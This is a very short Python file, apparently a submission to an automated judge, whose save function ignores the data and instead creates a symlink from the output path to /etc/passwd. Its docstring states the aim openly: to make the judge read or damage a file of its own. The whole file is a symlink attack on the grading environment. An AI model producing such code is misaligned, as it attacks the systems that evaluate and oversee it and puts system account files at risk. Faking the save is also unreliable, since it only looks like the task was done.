"""Save to a link, so that the judge reads or damages a file of its own."""

import os


def save(path, data):
    os.symlink("/etc/passwd", path)
